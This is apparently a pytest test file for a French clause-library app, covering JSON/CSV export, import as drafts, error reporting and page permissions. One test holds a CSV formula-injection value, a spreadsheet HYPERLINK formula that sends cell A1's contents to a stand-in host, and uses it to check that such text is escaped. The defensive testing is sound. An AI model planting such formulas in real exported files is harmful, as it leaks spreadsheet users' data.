"""Exchange of clause libraries: the export (JSON and CSV), the import as drafts into another
organisation, the refusal of a bad file with nothing written, and the two pages."""

import csv
import io
import json
from datetime import datetime
from html import unescape

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from clauses import exchange
from clauses.models import Clause, ClauseStatus, PurchaseFamily
from clauses.selectors import exchange as exports
from clauses.services import exchange as imports
from clauses.services.library import clause_retire, clause_update
from clauses.tests.factories import (
    INSERTION_BODY,
    INSERTION_PARAMETERS,
    PurchaseFamilyFactory,
    make_approved_clause,
    make_clause,
)

pytestmark = pytest.mark.django_db

LOGIN = "/compte/connexion/"
# The organisation (once per actor), the clauses with their versions in force, their families.
EXPORT_QUERIES = 3
PAPER_BODY = "Le papier livré contient au moins {recycled_share} de fibres recyclées."
PAPER_PARAMETERS = [
    {
        "name": "recycled_share",
        "label": "Part de fibres recyclées",
        "type": "percent",
        "min": 50,
        "max": 100,
        "default": "87.5",
        "help": "« 100 % recyclé » pour le papier de bureau.",
    }
]


def make_library(actor):
    """A library with an approved clause edited since, a draft and a retired clause."""
    paper = PurchaseFamily.objects.get(code="paper")
    office = PurchaseFamily.objects.get(code="office-supplies")
    insertion = make_approved_clause(
        actor=actor,
        purchase_families=[office, paper],
        cpv_prefixes=["30197", "30199"],
        guidance="Calculer les heures avec la formule du guide.",
        warnings="Vérifier la part de main-d'œuvre.",
    )
    paper_clause = make_clause(
        actor=actor,
        code="papier-recycle",
        title="Papier 100 % recyclé",
        body=PAPER_BODY,
        category="environmental",
        kind="technical_specification",
        decp_consideration="Clause environnementale",
        ocds_goal="environmental.recycling",
        ocds_strategies=["technicalSpecifications", "euGPPCriteria"],
        parameters=PAPER_PARAMETERS,
        purchase_families=[paper],
        cpv_prefixes=["30197644"],
    )
    retired = make_approved_clause(actor=actor, code="ancienne-clause", title="Ancienne")
    clause_retire(actor=actor, clause=retired)
    return insertion, paper_clause


def without_origin(entries):
    """The entries without what only describes the source library (status and version)."""
    return [
        {key: value for key, value in entry.items() if key not in ("status", "version")}
        for entry in entries
    ]


def entry(**changes):
    """A valid exchange entry."""
    return {
        "code": "vehicules-propres",
        "title": "Véhicules à faibles émissions",
        "body": "Au moins {share} des véhicules livrés sont à faibles émissions.",
        "guidance": "",
        "warnings": "",
        "legal_references": "Code de l'environnement, art. L224-7",
        "category": "environmental",
        "kind": "technical_specification",
        "decp_consideration": "Clause environnementale",
        "ocds_goal": "environmental.carbonEmissionsReduction",
        "ocds_strategies": ["technicalSpecifications"],
        "parameters": [{"name": "share", "label": "Part", "type": "percent", "default": 50}],
        "purchase_families": ["vehicles"],
        "cpv_prefixes": ["341"],
        "status": "approved",
        "version": 1,
        **changes,
    }


def json_file(*entries, **document):
    return json.dumps(
        {"format": exchange.FORMAT, "format_version": 1, "clauses": list(entries), **document}
    ).encode()


def import_errors(actor, file_name, content):
    with pytest.raises(ValidationError) as error:
        imports.library_import(actor=actor, file_name=file_name, content=content)
    return error.value.messages


def library_of(actor):
    return Clause.objects.filter(organisation_id=actor.organisation_id)


# --- The export -------------------------------------------------------------------------------


def test_the_export_gives_the_approved_version_not_the_draft_in_progress(alice):
    insertion, _paper = make_library(alice)
    clause_update(actor=alice, clause=insertion, title="Titre en cours de relecture")

    entries = exports.library_export_entries(actor=alice)

    by_code = {item["code"]: item for item in entries}
    assert by_code["insertion-heures"]["title"] == "Clause d'insertion par l'activité économique"
    assert by_code["insertion-heures"]["status"] == "approved"
    assert by_code["insertion-heures"]["version"] == 1
    assert by_code["papier-recycle"]["status"] == "draft"
    assert by_code["papier-recycle"]["version"] is None
    assert by_code["papier-recycle"]["title"] == "Papier 100 % recyclé"


def test_the_export_leaves_out_retired_clauses_and_other_organisations(alice, charlie):
    make_library(alice)
    make_approved_clause(actor=charlie, code="clause-de-tourcoing", shared_with_network=True)

    codes = [item["code"] for item in exports.library_export_entries(actor=alice)]

    assert codes == ["insertion-heures", "papier-recycle"]


def test_the_export_names_families_by_code_and_keeps_lists_and_parameters(alice):
    make_library(alice)

    insertion = exports.library_export_entries(actor=alice)[0]

    assert list(insertion) == list(exchange.FIELDS)
    assert insertion["purchase_families"] == ["office-supplies", "paper"]
    assert insertion["cpv_prefixes"] == ["30197", "30199"]
    assert insertion["parameters"] == INSERTION_PARAMETERS
    assert insertion["body"] == INSERTION_BODY
    assert insertion["ocds_strategies"] == ["contractPerformanceConditions"]


def test_the_json_export_describes_the_format_and_the_organisation(alice):
    make_library(alice)

    export = exports.library_export_json(actor=alice)

    document = json.loads(export.content.decode("utf-8"))
    assert document["format"] == "achats-responsables.clauses"
    assert document["format_version"] == 1
    assert document["organisation"] == {
        "name": "Ville de Roubaix",
        "siret": alice.organisation.siret,
    }
    assert datetime.fromisoformat(document["exported_at"]).tzinfo is not None
    assert len(document["clauses"]) == 2
    # Accented letters are written as they are, for people who open the file.
    assert "Papier 100 % recyclé".encode() in export.content
    assert export.file_name == (
        f"clauses-{alice.organisation.slug}-{timezone.localdate().isoformat()}.json"
    )


def test_the_csv_export_is_semicolon_separated_utf8_with_a_byte_order_mark(alice):
    make_library(alice)

    export = exports.library_export_csv(actor=alice)

    assert export.content.startswith(b"\xef\xbb\xbf")
    text = export.content.decode("utf-8-sig")
    assert text.splitlines()[0] == ";".join(exchange.FIELDS)
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [row["code"] for row in rows] == ["insertion-heures", "papier-recycle"]
    assert rows[0]["purchase_families"] == "office-supplies | paper"
    assert rows[0]["cpv_prefixes"] == "30197 | 30199"
    assert rows[1]["ocds_strategies"] == "technicalSpecifications | euGPPCriteria"
    assert rows[1]["parameters"] == json.dumps(
        PAPER_PARAMETERS, ensure_ascii=False, separators=(",", ":")
    )
    assert rows[0]["version"] == "1"
    assert rows[1]["version"] == ""
    assert export.file_name.endswith(".csv")


@pytest.mark.parametrize("count", [1, 15])
def test_the_export_takes_the_same_number_of_queries_for_1_or_15_clauses(
    alice, count, django_assert_max_num_queries
):
    paper = PurchaseFamily.objects.get(code="paper")
    for number in range(count):
        make_approved_clause(
            actor=alice, code=f"clause-{number}", purchase_families=[paper], cpv_prefixes=["391"]
        )
    alice.refresh_from_db()

    with django_assert_max_num_queries(EXPORT_QUERIES):
        json_export = exports.library_export_json(actor=alice)
    alice.refresh_from_db()
    with django_assert_max_num_queries(EXPORT_QUERIES):
        exports.library_export_csv(actor=alice)

    assert len(json.loads(json_export.content)["clauses"]) == count


def test_a_buyer_cannot_export_the_library(alice, bob):
    make_library(alice)
    with pytest.raises(PermissionDenied):
        exports.library_export_json(actor=bob)


# --- Round trips --------------------------------------------------------------------------


@pytest.mark.parametrize("exporter", ["json", "csv"])
def test_a_library_exported_then_imported_into_another_organisation_is_the_same(
    alice, charlie, exporter
):
    make_library(alice)
    export = exports.EXPORTERS[exporter](actor=alice)

    imported = imports.library_import(
        actor=charlie, file_name=export.file_name, content=export.content
    )

    assert [clause.code for clause in imported] == ["insertion-heures", "papier-recycle"]
    assert without_origin(exports.library_export_entries(actor=charlie)) == without_origin(
        exports.library_export_entries(actor=alice)
    )
    paper = library_of(charlie).get(code="papier-recycle")
    assert paper.parameters == PAPER_PARAMETERS
    assert paper.body == PAPER_BODY
    assert list(paper.purchase_families.values_list("code", flat=True)) == ["paper"]
    assert paper.cpv_prefixes == ["30197644"]


HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Cliquez ici")'


def test_texts_typed_as_formulas_are_marked_in_the_csv_and_come_back_unchanged(alice, charlie):
    make_clause(
        actor=alice, code="formule", title=HYPERLINK, guidance="'cité", warnings="-5 % au plus"
    )

    export = exports.library_export_csv(actor=alice)
    rows = list(
        csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"), newline=""), delimiter=";")
    )
    imports.library_import(actor=charlie, file_name=export.file_name, content=export.content)

    assert rows[0]["title"] == "'" + HYPERLINK
    assert rows[0]["guidance"] == "''cité"
    assert rows[0]["warnings"] == "'-5 % au plus"
    copy = library_of(charlie).get(code="formule")
    assert (copy.title, copy.guidance, copy.warnings) == (HYPERLINK, "'cité", "-5 % au plus")


def test_imported_clauses_are_unshared_drafts_of_the_importer_with_their_history(alice, charlie):
    make_library(alice)
    library = exports.library_export_json(actor=alice)
    alice_clauses = set(library_of(alice).values_list("pk", flat=True))

    imports.library_import(actor=charlie, file_name="roubaix.json", content=library.content)

    imported = library_of(charlie).order_by("code")
    assert imported.count() == 2
    for clause in imported:
        assert clause.status == ClauseStatus.DRAFT
        assert clause.current_version is None
        assert clause.shared_with_network is False
        assert clause.created_by == charlie
        assert clause.pk not in alice_clauses
        history = list(clause.history.all())
        assert {row.history_user for row in history} == {charlie}
        assert {row.history_change_reason for row in history} == {
            "Création par import du fichier « roubaix.json »"
        }
    # The source library is untouched.
    assert set(library_of(alice).values_list("pk", flat=True)) == alice_clauses


def test_a_csv_file_saved_again_by_a_spreadsheet_without_byte_order_mark_is_read(charlie):
    header = ";".join(exchange.FIELDS)
    row = entry(code="sans-bom")
    cells = [
        " | ".join(row[name]) if name in exchange.LIST_FIELDS else row[name]
        for name in exchange.FIELDS
    ]
    cells[exchange.FIELDS.index("parameters")] = json.dumps(row["parameters"])
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerow([str(cell) for cell in cells])

    imported = imports.library_import(
        actor=charlie,
        file_name="LIBRAIRIE.CSV",
        content=f"{header}\r\n{buffer.getvalue()}".encode(),
    )

    assert imported[0].code == "sans-bom"
    assert imported[0].parameters == row["parameters"]
    assert imported[0].ocds_strategies == ["technicalSpecifications"]


# --- Refused files: every error named, nothing written ------------------------------------


def test_a_broken_json_file_is_refused_with_its_line_and_column(charlie):
    content = b'{\n  "format": "achats-responsables.clauses",\n  "clauses": [,]\n}'

    assert import_errors(charlie, "clauses.json", content) == [
        "Le fichier JSON est mal formé : ligne 3, colonne 15."
    ]
    assert not library_of(charlie).exists()


def test_one_bad_entry_among_good_ones_writes_nothing_and_names_entry_and_field(charlie):
    content = json_file(
        entry(code="vehicules-propres"),
        entry(code="papier-recycle", category="verte"),
        entry(code="insertion"),
    )

    assert import_errors(charlie, "clauses.json", content) == [
        "Entrée 2 (papier-recycle), champ « category » : « verte » n'est pas une valeur "
        "permise ; valeurs permises : environmental, social_insertion, working_conditions, "
        "circular_economy, other."
    ]
    assert not library_of(charlie).exists()


def test_every_fault_of_the_file_is_listed_at_once(charlie):
    content = json_file(
        entry(code="sans-titre", title=""),
        entry(code="texte-faux", body="Au moins {part} des véhicules."),
        entry(code="parametre-faux", parameters=[{"name": "share", "type": "percent"}]),
        entry(code="cpv-faux", cpv_prefixes=["34a"]),
        entry(code="strategie-fausse", ocds_strategies=["lowestPrice"]),
        entry(code="champ-en-trop", colour="vert"),
        "pas un objet",
    )

    assert import_errors(charlie, "clauses.json", content) == [
        "Entrée 1 (sans-titre), champ « title » : ce champ est obligatoire.",
        "Entrée 2 (texte-faux), champ « body » : Le texte utilise le paramètre « part », qui "
        "n'est pas défini.",
        "Entrée 2 (texte-faux), champ « body » : Le paramètre « share » n'apparaît pas dans le "
        "texte : ajoutez {share} au texte ou retirez le paramètre.",
        "Entrée 3 (parametre-faux), champ « parameters » : Le paramètre « share » n'a pas de "
        "libellé.",
        "Entrée 4 (cpv-faux), champ « cpv_prefixes » : « 34a » n'est pas un préfixe CPV : de 1 "
        "à 8 chiffres.",
        "Entrée 5 (strategie-fausse), champ « ocds_strategies » : « lowestPrice » n'est pas "
        "une stratégie de durabilité OCDS.",
        "Entrée 6 (champ-en-trop), champ « colour » : champ inconnu.",
        "Entrée 7 : chaque clause doit être un objet JSON.",
    ]
    assert not library_of(charlie).exists()


def test_a_code_twice_in_the_file_is_refused(charlie):
    content = json_file(entry(), entry(title="Autre titre"))

    assert import_errors(charlie, "clauses.json", content) == [
        "Entrée 2 (vehicules-propres), champ « code » : le code « vehicules-propres » est "
        "déjà celui de l'entrée 1."
    ]
    assert not library_of(charlie).exists()


def test_a_code_already_in_the_library_is_refused(alice, charlie):
    make_approved_clause(actor=charlie, code="vehicules-propres")
    # Alice's clause of the same code is hers: it does not stand in charlie's way.
    make_clause(actor=alice, code="autre-code")
    content = json_file(entry(code="autre-code"), entry())

    assert import_errors(charlie, "clauses.json", content) == [
        "Entrée 2 (vehicules-propres), champ « code » : votre bibliothèque a déjà une clause "
        "de code « vehicules-propres »."
    ]
    assert list(library_of(charlie).values_list("code", flat=True)) == ["vehicules-propres"]


def test_an_unknown_or_inactive_purchase_family_is_refused(charlie):
    PurchaseFamilyFactory(code="ancienne-famille", is_active=False)
    content = json_file(entry(purchase_families=["vehicles", "trottinettes", "ancienne-famille"]))

    assert import_errors(charlie, "clauses.json", content) == [
        "Entrée 1 (vehicules-propres), champ « purchase_families » : la famille d'achat "
        "« trottinettes » n'existe pas dans cette application.",
        "Entrée 1 (vehicules-propres), champ « purchase_families » : la famille d'achat "
        "« ancienne-famille » n'est plus active.",
    ]
    assert not library_of(charlie).exists()


def test_a_file_of_another_kind_is_refused(charlie):
    assert import_errors(charlie, "clauses.xlsx", json_file(entry())) == [
        "« clauses.xlsx » n'est ni un fichier JSON (.json) ni un fichier CSV (.csv) : importez "
        "un fichier exporté depuis une bibliothèque de clauses."
    ]
    assert not library_of(charlie).exists()


def test_a_file_over_the_size_limit_is_refused(charlie):
    content = json_file(entry(guidance="x" * 6 * 1024 * 1024))

    assert import_errors(charlie, "clauses.json", content) == [
        "Le fichier fait 6,0\xa0Mio : la taille maximale est de 5,0\xa0Mio."
    ]
    assert not library_of(charlie).exists()


def test_a_json_file_of_another_format_or_version_is_refused(charlie):
    assert import_errors(charlie, "a.json", json.dumps({"clauses": []}).encode()) == [
        "Ce fichier JSON n'est pas une bibliothèque de clauses : son champ « format » doit "
        "valoir « achats-responsables.clauses »."
    ]
    assert import_errors(charlie, "a.json", json_file(entry(), format_version=2)) == [
        "Version de format « 2 » non prise en charge : cette application lit la version 1."
    ]
    assert import_errors(charlie, "a.json", json_file()) == [
        "Le fichier ne contient aucune clause."
    ]


def test_a_csv_file_with_missing_or_unknown_columns_is_refused_naming_them(charlie):
    header = [name for name in exchange.FIELDS if name not in ("body", "kind")] + ["couleur"]
    content = (";".join(header) + "\r\n").encode("utf-8-sig")

    assert import_errors(charlie, "clauses.csv", content) == [
        "Colonnes manquantes dans l'en-tête du fichier CSV : body, kind.",
        "Colonnes inconnues dans l'en-tête du fichier CSV : « couleur ».",
    ]


def test_a_comma_separated_file_is_refused_with_the_expected_separator(charlie):
    content = (",".join(exchange.FIELDS) + "\r\n").encode()

    assert import_errors(charlie, "clauses.csv", content) == [
        "Les colonnes du fichier CSV doivent être séparées par des points-virgules (;), pas par "
        "des virgules."
    ]


def test_csv_errors_name_the_entry_and_its_line(alice, charlie):
    make_library(alice)
    text = exports.library_export_csv(actor=alice).content.decode("utf-8-sig")
    text = text.replace("social_insertion", "sociale").replace(
        '[{""name"":""recycled', '[{""name"" ""recycled'
    )
    text += "trop-court;Titre\r\n"

    assert import_errors(charlie, "clauses.csv", text.encode("utf-8")) == [
        "Entrée 1 (insertion-heures, ligne 2), champ « category » : « sociale » n'est pas une "
        "valeur permise ; valeurs permises : environmental, social_insertion, "
        "working_conditions, circular_economy, other.",
        "Entrée 2 (papier-recycle, ligne 3), champ « parameters » : ce n'est pas une liste "
        "JSON valide (caractère 10).",
        "Entrée 3 (trop-court, ligne 4) : la ligne a 2 cellules au lieu des 16 de l'en-tête.",
    ]
    assert not library_of(charlie).exists()


def test_a_file_not_encoded_in_utf8_is_refused(charlie):
    content = "code;title\r\nclause;Électricité".encode("cp1252")

    assert import_errors(charlie, "clauses.csv", content) == [
        "Le fichier n'est pas encodé en UTF-8 (octet 20 illisible) : enregistrez-le au format "
        "« CSV UTF-8 » ou « JSON UTF-8 »."
    ]


def test_a_failure_while_writing_undoes_the_whole_import(charlie, monkeypatch):
    created = []

    def create_then_fail(**fields):
        if created:
            raise ValidationError("Une clause de votre organisation a déjà ce code.")
        created.append(exchange_create(**fields))
        return created[-1]

    exchange_create = imports.clause_create
    monkeypatch.setattr(imports, "clause_create", create_then_fail)

    errors = import_errors(charlie, "clauses.json", json_file(entry(code="a"), entry(code="b")))

    assert errors == ["Entrée 2 (b) : Une clause de votre organisation a déjà ce code."]
    assert len(created) == 1
    assert not library_of(charlie).exists()


def test_a_buyer_cannot_import(alice, bob):
    with pytest.raises(PermissionDenied):
        imports.library_import(actor=bob, file_name="a.json", content=json_file(entry()))
    assert not library_of(bob).exists()


# --- Pages --------------------------------------------------------------------------------


def export_url(fmt):
    return f"{reverse('clauses:library-export')}?format={fmt}"


IMPORT_URL = "/clauses/bibliotheque/importer/"


def upload(name, content):
    return SimpleUploadedFile(name, content)


def test_the_page_urls_are_under_the_library():
    assert reverse("clauses:library-export") == "/clauses/bibliotheque/exporter/"
    assert reverse("clauses:library-import") == IMPORT_URL


@pytest.mark.parametrize(
    ("fmt", "content_type", "extension"),
    [
        ("json", "application/json; charset=utf-8", "json"),
        ("csv", "text/csv; charset=utf-8", "csv"),
    ],
)
def test_an_administrator_downloads_the_library(client, alice, fmt, content_type, extension):
    make_library(alice)
    client.force_login(alice)

    response = client.get(export_url(fmt))

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    file_name = f"clauses-{alice.organisation.slug}-{timezone.localdate().isoformat()}.{extension}"
    assert response["Content-Disposition"] == f'attachment; filename="{file_name}"'
    assert b"papier-recycle" in response.content
    assert b"ancienne-clause" not in response.content


def test_the_download_is_json_when_no_format_is_asked(client, alice):
    client.force_login(alice)
    response = client.get(reverse("clauses:library-export"))
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert json.loads(response.content)["clauses"] == []


def test_an_unknown_export_format_is_not_found(client, alice):
    client.force_login(alice)
    assert client.get(export_url("xlsx")).status_code == 404


def test_the_pages_refuse_other_methods(client, alice):
    client.force_login(alice)
    assert client.post(export_url("json")).status_code == 405
    assert client.delete(IMPORT_URL).status_code == 405


@pytest.mark.parametrize("page", [export_url("json"), IMPORT_URL])
def test_a_buyer_is_forbidden_the_exchange_pages(client, bob, page):
    client.force_login(bob)
    assert client.get(page).status_code == 403


def test_a_buyer_cannot_post_a_file(client, alice, bob):
    client.force_login(bob)
    response = client.post(IMPORT_URL, {"file": upload("a.json", json_file(entry()))})
    assert response.status_code == 403
    assert not Clause.objects.exists()


@pytest.mark.parametrize("page", [export_url("csv"), IMPORT_URL])
def test_an_anonymous_visitor_is_sent_to_the_login_page(client, page):
    response = client.get(page)
    assert response.status_code == 302
    assert response.url.startswith(f"{LOGIN}?next=")


def test_the_import_page_shows_the_upload_form_and_the_formats(client, alice):
    client.force_login(alice)

    response = client.get(IMPORT_URL)

    page = response.content.decode()
    assert response.status_code == 200
    assert 'enctype="multipart/form-data"' in page
    assert 'for="id_file"' in page
    assert 'type="file" name="file"' in page
    assert "achats-responsables.clauses" in page
    assert "<code>social_insertion</code>" in page
    assert "<code>paper</code>" in page
    assert export_url("csv") in page
    assert 'role="alert"' not in page


def test_an_administrator_imports_a_library_through_the_page(client, alice, charlie):
    make_library(alice)
    library = exports.library_export_csv(actor=alice)
    client.force_login(charlie)

    response = client.post(IMPORT_URL, {"file": upload(library.file_name, library.content)})

    assert response.status_code == 302
    assert response.url == "/clauses/?status=draft"
    assert sorted(library_of(charlie).values_list("code", "status")) == [
        ("insertion-heures", "draft"),
        ("papier-recycle", "draft"),
    ]
    followed = client.get(response.url)
    assert "2 clauses importées en brouillon : relisez-les puis approuvez-les." in [
        str(message) for message in followed.context["messages"]
    ]


def test_a_bad_file_sent_through_the_page_lists_every_error_and_writes_nothing(client, charlie):
    client.force_login(charlie)
    content = json_file(entry(code="bon"), entry(code="mauvais", kind="clause"), entry(code="bon"))

    response = client.post(IMPORT_URL, {"file": upload("clauses.json", content)})

    page = unescape(response.content.decode())
    assert response.status_code == 200
    assert 'role="alert"' in page
    assert "aucune clause n'a été importée" in page
    assert "Entrée 2 (mauvais), champ « kind » : « clause » n'est pas une valeur" in page
    assert "Entrée 3 (bon), champ « code » : le code « bon » est déjà celui de l'entrée 1" in page
    assert not library_of(charlie).exists()


def test_a_file_of_the_wrong_type_is_refused_by_the_page(client, charlie):
    client.force_login(charlie)

    response = client.post(IMPORT_URL, {"file": upload("clauses.pdf", b"%PDF-1.7")})

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [
        "« clauses.pdf » n'est ni un fichier JSON (.json) ni un fichier CSV (.csv) : importez "
        "un fichier exporté depuis une bibliothèque de clauses."
    ]
    assert 'role="alert"' in response.content.decode()
    assert not library_of(charlie).exists()


def test_a_post_without_a_file_asks_for_one(client, charlie):
    client.force_login(charlie)

    response = client.post(IMPORT_URL, {})

    assert response.status_code == 200
    assert response.context["form"].errors["file"] == ["Ce champ est obligatoire."]


def test_a_csv_line_with_a_quote_left_open_is_refused_naming_its_line(charlie):
    content = (";".join(exchange.FIELDS) + '\r\nclause;"titre" en trop\r\n').encode()

    assert import_errors(charlie, "clauses.csv", content) == [
        "Le fichier CSV est mal formé à la ligne 2 : Ligne illisible : un guillemet ouvert n'est "
        "pas refermé ou est suivi d'autre chose que le séparateur."
    ]


def test_a_csv_longer_than_the_maximum_of_lines_is_refused(charlie, settings):
    settings.IMPORT_MAX_ROWS = 2
    content = (";".join(exchange.FIELDS) + "\r\n" + "x\r\n" * 3).encode()

    assert import_errors(charlie, "clauses.csv", content) == [
        "Le fichier CSV est mal formé à la ligne 4 : Le fichier dépasse 2 lignes après celle des "
        "colonnes : découpez-le en plusieurs fichiers."
    ]


def test_csv_lines_are_counted_as_a_spreadsheet_shows_them(charlie):
    header = ";".join(exchange.FIELDS)
    rows = [entry(code="sur-trois-lignes", guidance="un\ndeux\ntrois"), entry(code="a", title="")]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    for row in rows:
        row["parameters"] = json.dumps(row["parameters"])
        writer.writerow(
            [
                " | ".join(row[name]) if name in exchange.LIST_FIELDS else str(row[name])
                for name in exchange.FIELDS
            ]
        )

    assert import_errors(charlie, "c.csv", f"{header}\r\n{buffer.getvalue()}".encode()) == [
        "Entrée 2 (a, ligne 3), champ « title » : ce champ est obligatoire."
    ]
